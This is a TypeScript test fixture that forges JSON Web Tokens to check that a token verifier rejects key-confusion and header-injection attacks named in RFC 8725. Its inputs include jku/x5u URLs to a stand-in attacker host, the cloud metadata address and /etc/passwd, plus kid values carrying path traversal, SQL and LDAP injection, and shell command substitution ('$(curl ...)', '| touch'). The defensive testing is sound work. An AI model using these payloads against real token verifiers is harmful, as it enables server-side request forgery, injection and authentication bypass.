// Keys a token brings along, points to or names (RFC 8725 sections 2.9 and 3.10). Every signature is good under the
// key the forger would have used.

import { generateKeyPairSync } from 'node:crypto'
import { assembleToken, CLAIMS, createSigningKey, signingKey, signToken } from '../issuer-fixture.ts'
import { FORGER, type Forgery, forgeEach, forgeHeader } from './forgery.ts'

const certificate = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  .publicKey.export({ type: 'spki', format: 'der' })
  .toString('base64')

const BROUGHT = await forgeEach(
  'signature_invalid',
  {
    'an embedded jwk': { jwk: FORGER.publicJwk },
    'an embedded jwk named like the key of the issuer': { jwk: { ...FORGER.publicJwk, kid: 'key-ES256' } },
    'an embedded private jwk': { jwk: { ...FORGER.publicJwk, d: FORGER.publicJwk.x } },
    'an embedded secret': { jwk: { kty: 'oct', k: 'AAAA' } },
    jku: { jku: 'https://evil.example/jwks.json' },
    'jku below the issuer': { jku: 'https://patmint.example.com/.well-known/../../uploads/jwks.json' },
    'jku that looks like the issuer': {
      jku: 'https://patmint.example.com@evil.example/.well-known/jwks.json',
    },
    'jku of a machine inside': { jku: 'http://169.254.169.254/latest/meta-data' },
    'jku of a file': { jku: 'file:///etc/passwd' },
    'jku as a data URL': {
      jku: `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [FORGER.publicJwk] }))}`,
    },
    x5u: { x5u: 'https://evil.example/chain.pem' },
    x5c: { x5c: [certificate] },
    x5t: { x5t: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'x5t#S256': 'A'.repeat(43) },
    'every one of them': {
      jwk: FORGER.publicJwk,
      jku: 'https://evil.example/1',
      x5u: 'https://evil.example/2',
      x5c: [certificate],
    },
    'an issuer and an audience in the header': { iss: 'https://evil.example', aud: 'https://evil.example' },
  },
  (members) => forgeHeader(members),
)

const UNKNOWN_KIDS = [
  '../../../../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  'https://evil.example/key',
  "key-ES256' OR '1'='1",
  "x' UNION SELECT 'secret' --",
  '$(curl https://evil.example)',
  '| touch /tmp/owned',
  '*',
  '.*',
  '*)(cn=*',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'keys',
  'length',
  '0',
  'KEY-ES256',
  ' key-ES256',
  'key-ES256 ',
  'key-ES256\n',
  'key-ES256\u0000',
  'key-ES256\u0000.pem',
  'kеy-ES256',
  'key‐ES256',
  'key-PS256',
  JSON.stringify(FORGER.publicJwk),
]

const NAMED = await forgeEach(
  'key_unknown',
  {
    ...Object.fromEntries(UNKNOWN_KIDS.map((kid) => [`kid ${JSON.stringify(kid).slice(0, 40)}`, kid])),
    'kid of 8,000 characters': 'k'.repeat(8_000),
  },
  (kid) => forgeHeader({ kid }),
)

const NO_KIDS: unknown[] = [
  undefined,
  null,
  '',
  0,
  256,
  true,
  {},
  [],
  ['key-ES256'],
  [['key-ES256']],
  { toString: 'key-ES256' },
]

const UNNAMED = await forgeEach(
  'header_invalid',
  Object.fromEntries(NO_KIDS.map((kid) => [`kid ${JSON.stringify(kid)}`, kid])),
  (kid) => forgeHeader({ kid, jwk: FORGER.publicJwk }),
)

/** One algorithm under the name of another's key. */
const MIXED: Forgery[] = [
  [
    'RS256 under the name of the PS256 key',
    'key_unknown',
    await signToken(CLAIMS, { kid: 'key-PS256' }, signingKey('RS256')),
  ],
  [
    'PS256 under the name of the RS256 key',
    'key_unknown',
    await signToken(CLAIMS, { kid: 'key-RS256' }, signingKey('PS256')),
  ],
  [
    'ES256 under the name of the EdDSA key',
    'key_unknown',
    await signToken(CLAIMS, { kid: 'key-EdDSA' }, FORGER),
  ],
  [
    'EdDSA under the name of the ES256 key',
    'key_unknown',
    await signToken(CLAIMS, { kid: 'key-ES256' }, await createSigningKey('EdDSA', '')),
  ],
  [
    'RS256 under the name of the ES256 key',
    'key_unknown',
    await signToken(CLAIMS, { kid: 'key-ES256' }, signingKey('RS256')),
  ],
  [
    'a signature of nobody',
    'signature_invalid',
    assembleToken({ alg: 'ES256', typ: 'at+jwt', kid: 'key-ES256' }, CLAIMS, 'A'.repeat(86)),
  ],
  ['a signature of somebody', 'signature_invalid', await forgeHeader({})],
]

export const KEYS: Forgery[] = [...BROUGHT, ...NAMED, ...UNNAMED, ...MIXED]
